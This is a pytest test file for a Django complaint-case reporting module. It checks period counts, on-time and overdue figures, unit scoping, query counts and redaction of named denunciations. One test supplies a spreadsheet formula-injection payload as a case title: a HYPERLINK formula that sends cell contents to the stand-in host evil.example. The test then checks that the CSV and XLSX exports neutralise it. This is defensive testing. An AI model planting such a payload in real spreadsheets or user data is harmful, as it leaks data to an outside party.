"""The periodic report (complaints.reports.period) against hand-counted cases."""

from __future__ import annotations

import datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from complaints.kinds import CaseKind, CaseStatus, Channel
from complaints.reports.exports import report_sections
from complaints.reports.period import period_report
from complaints.services.calendar import working_calendar
from tests.complaints.admin.helpers import handler_user, intake_user
from tests.factories import CaseFactory, CategoryFactory, FacilityFactory

pytestmark = pytest.mark.django_db

NOVEMBER = (datetime.date(2026, 11, 1), datetime.date(2026, 11, 30))
TODAY = datetime.date(2026, 12, 3)


def at(day: datetime.date, hour: int = 9) -> datetime.datetime:
    return timezone.make_aware(datetime.datetime.combine(day, datetime.time(hour)))


@pytest.fixture
def province():
    so = FacilityFactory(name="Sở Y tế")
    hospital = FacilityFactory(name="Bệnh viện A", parent=so)
    centre = FacilityFactory(name="Trung tâm B", parent=so)
    return so, hospital, centre


@pytest.fixture
def november(province):
    _so, hospital, centre = province
    food = CategoryFactory(name="An toàn thực phẩm")
    nov = datetime.date(2026, 11, 10)
    cases = {
        "web_open_overdue": CaseFactory(
            assigned_unit=hospital, received_at=at(nov), accept_by=datetime.date(2026, 11, 20)
        ),
        "hotline_resolved_on_time": CaseFactory(
            assigned_unit=hospital,
            channel=Channel.HOTLINE,
            category=food,
            received_at=at(nov),
            status=CaseStatus.CONCLUDED,
            resolve_by=datetime.date(2026, 11, 25),
            concluded_at=at(datetime.date(2026, 11, 24)),
        ),
        "complaint_resolved_late": CaseFactory(
            assigned_unit=centre,
            kind=CaseKind.KHIEU_NAI,
            category=food,
            received_at=at(nov),
            status=CaseStatus.CLOSED,
            resolve_by=datetime.date(2026, 11, 20),
            concluded_at=at(datetime.date(2026, 11, 27)),
        ),
        "rejected": CaseFactory(
            assigned_unit=centre, received_at=at(nov), status=CaseStatus.REJECTED
        ),
        "forwarded": CaseFactory(received_at=at(nov), status=CaseStatus.FORWARDED),
        # Outside the period: October, and the first of December (local time).
        "october": CaseFactory(
            assigned_unit=hospital, received_at=at(datetime.date(2026, 10, 31), 23)
        ),
        "december": CaseFactory(
            assigned_unit=hospital, received_at=at(datetime.date(2026, 12, 1), 0)
        ),
    }
    return cases


def test_counts_by_kind_channel_category_and_outcome(november):
    report = period_report(user=intake_user(), start=NOVEMBER[0], end=NOVEMBER[1], today=TODAY)
    assert report.received == 5
    assert {row.code: row.count for row in report.by_kind}["khieu_nai"] == 1
    assert {row.code: row.count for row in report.by_kind}["phan_anh"] == 4
    assert {row.code: row.count for row in report.by_kind}["to_cao"] == 0  # every kind listed
    assert {row.code: row.count for row in report.by_channel} == {
        "web": 4,
        "api": 0,
        "hotline": 1,
        "in_person": 0,
        "mail": 0,
        "press": 0,
    }
    assert {row.label: row.count for row in report.by_category}["An toàn thực phẩm"] == 2
    assert {row.code: row.count for row in report.by_outcome} == {
        "resolved": 2,
        "rejected": 1,
        "forwarded": 1,
        "filed": 0,
        "withdrawn": 0,
        "handling": 1,
    }


def test_on_time_and_the_overdue_list(november):
    report = period_report(user=intake_user(), start=NOVEMBER[0], end=NOVEMBER[1], today=TODAY)
    assert (report.resolved, report.resolved_on_time, report.resolved_late) == (2, 1, 1)
    assert report.on_time_rate == 0.5
    late = {case.tracking_code: case for case in report.overdue}
    assert set(late) == {
        november["web_open_overdue"].tracking_code,
        november["complaint_resolved_late"].tracking_code,
    }
    open_one = late[november["web_open_overdue"].tracking_code]
    # Late to the period's last day (30 November), not to the day the report is made.
    assert (open_one.due, open_one.days_late, open_one.concluded_on) == (
        datetime.date(2026, 11, 20),
        10,
        None,
    )
    closed_one = late[november["complaint_resolved_late"].tracking_code]
    assert (closed_one.days_late, closed_one.concluded_on) == (7, datetime.date(2026, 11, 27))


def test_a_unit_includes_the_units_below_it_and_scope_still_applies(province, november):
    so, hospital, centre = province
    only_centre = period_report(
        user=intake_user(), start=NOVEMBER[0], end=NOVEMBER[1], unit=centre, today=TODAY
    )
    assert only_centre.received == 2
    whole_so = period_report(
        user=intake_user(), start=NOVEMBER[0], end=NOVEMBER[1], unit=so, today=TODAY
    )
    assert whole_so.received == 4  # the forwarded case has no unit
    # A handler of the hospital asking for the whole Sở sees only the hospital's cases.
    mine = period_report(
        user=handler_user(hospital), start=NOVEMBER[0], end=NOVEMBER[1], unit=so, today=TODAY
    )
    assert mine.received == 2


def test_end_before_start_is_refused():
    with pytest.raises(ValueError):
        period_report(user=intake_user(), start=NOVEMBER[1], end=NOVEMBER[0])


def test_a_bounded_number_of_queries_whatever_the_number_of_cases(province, november):
    user = intake_user()
    working_calendar()

    def measure() -> int:
        period_report(user=user, start=NOVEMBER[0], end=NOVEMBER[1], today=TODAY)
        with CaptureQueriesContext(connection) as queries:
            period_report(user=user, start=NOVEMBER[0], end=NOVEMBER[1], today=TODAY)
        return len(queries)

    few = measure()
    for n in range(30):
        CaseFactory(
            assigned_unit=FacilityFactory(),
            category=CategoryFactory(),
            received_at=at(datetime.date(2026, 11, 1 + n % 28)),
            accept_by=datetime.date(2026, 11, 2),
        )
    # The counts, the category names, the cases whose events the figures read
    # (`as_at_end.event_cases`), the figures as at the end, the overdue list.
    assert measure() == few == 5


def test_an_accepted_press_case_is_late_from_its_notice_of_measures(province):
    # khoản 3 Điều 18 Nghị định 237/2026: after thụ lý the case still owes the outlet its
    # notice of measures (accept_by); no answer was asked for (resolve_by empty).
    _so, hospital, _centre = province
    case = CaseFactory(
        bao_chi=True,
        assigned_unit=hospital,
        received_at=at(datetime.date(2026, 11, 2)),
        status=CaseStatus.ACCEPTED,
        accepted_at=at(datetime.date(2026, 11, 3)),
        accept_by=datetime.date(2026, 11, 23),
        resolve_by=None,
    )
    report = period_report(user=intake_user(), start=NOVEMBER[0], end=NOVEMBER[1], today=TODAY)
    [late] = [c for c in report.overdue if c.tracking_code == case.tracking_code]
    assert (late.due, late.days_late) == (datetime.date(2026, 11, 23), 7)  # to 30 November


def test_a_citizens_title_is_never_a_formula_in_the_files(province):
    import csv
    import io

    from openpyxl import load_workbook

    from complaints.reports.exports import report_csv, report_xlsx

    _so, hospital, _centre = province
    title = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm xem chi tiết")'
    case = CaseFactory(
        assigned_unit=hospital,
        title=title,
        received_at=at(datetime.date(2026, 11, 10)),
        accept_by=datetime.date(2026, 11, 20),
    )
    report = period_report(user=intake_user(), start=NOVEMBER[0], end=NOVEMBER[1], today=TODAY)

    rows = list(csv.reader(io.StringIO(report_csv(report).decode("utf-8-sig"))))
    [row] = [r for r in rows if r and r[0] == case.tracking_code]
    assert row[2] == "'" + title

    workbook = load_workbook(io.BytesIO(report_xlsx(report)))
    cells = [c for sheet in workbook for r in sheet.iter_rows() for c in r if c.value == title]
    assert cells and all(c.data_type == "s" for c in cells)


def test_a_case_resolved_without_a_deadline_is_neither_on_time_nor_late(province):
    # A press report concluded before its resolution deadline was set: the report counted
    # it late (resolved minus on time) while the case list had nothing overdue.
    _so, hospital, _centre = province
    CaseFactory(
        assigned_unit=hospital,
        kind=CaseKind.BAO_CHI,
        received_at=at(NOVEMBER[0]),
        status=CaseStatus.CONCLUDED,
        resolve_by=None,
        concluded_at=at(datetime.date(2026, 11, 5)),
    )
    CaseFactory(
        assigned_unit=hospital,
        received_at=at(NOVEMBER[0]),
        status=CaseStatus.CONCLUDED,
        resolve_by=datetime.date(2026, 11, 25),
        concluded_at=at(datetime.date(2026, 11, 6)),
    )
    report = period_report(user=intake_user(), start=NOVEMBER[0], end=NOVEMBER[1], today=TODAY)
    assert (report.resolved, report.resolved_on_time, report.resolved_late) == (2, 1, 0)
    assert report.resolved_without_deadline == 1
    assert report.on_time_rate == 1.0
    sections = dict((title, rows) for title, _header, rows in report_sections(report))
    summary = {str(label): value for label, value in next(iter(sections.values()))}
    assert summary["Giải quyết trễ hạn"] == 0
    assert summary["Giải quyết, không có thời hạn giải quyết"] == 1
    assert summary["Tỷ lệ đúng hạn (trong số hồ sơ có thời hạn)"] == "100.0%"


def test_a_named_denunciation_in_the_overdue_list_is_redacted_with_one_more_query(
    province, november
):
    """The list's named tố cáo are redacted from their denouncers read apart, in one query
    (none when the list holds no such case): joined into the list's query, PostgreSQL
    scanned every reporter for each row at 100,000 cases (khoản 3 Điều 8, Điều 47 Luật Tố
    cáo; docs/benchmarks.md)."""
    _so, hospital, _centre = province
    user = intake_user()
    working_calendar()
    for n in range(3):
        CaseFactory(
            kind=CaseKind.TO_CAO,
            assigned_unit=hospital,
            title=f"Nguyễn Thị Dân tố cáo bác sĩ lần {n}",
            received_at=at(datetime.date(2026, 11, 3 + n)),
            accept_by=datetime.date(2026, 11, 12),
        )
    period_report(user=user, start=NOVEMBER[0], end=NOVEMBER[1], today=TODAY)
    with CaptureQueriesContext(connection) as queries:
        report = period_report(user=user, start=NOVEMBER[0], end=NOVEMBER[1], today=TODAY)
    titles = [row.title for row in report.overdue if "tố cáo bác sĩ" in row.title]
    assert len(titles) == 3
    assert all(title.startswith("[đã ẩn] tố cáo") for title in titles)
    assert len(queries) == 6
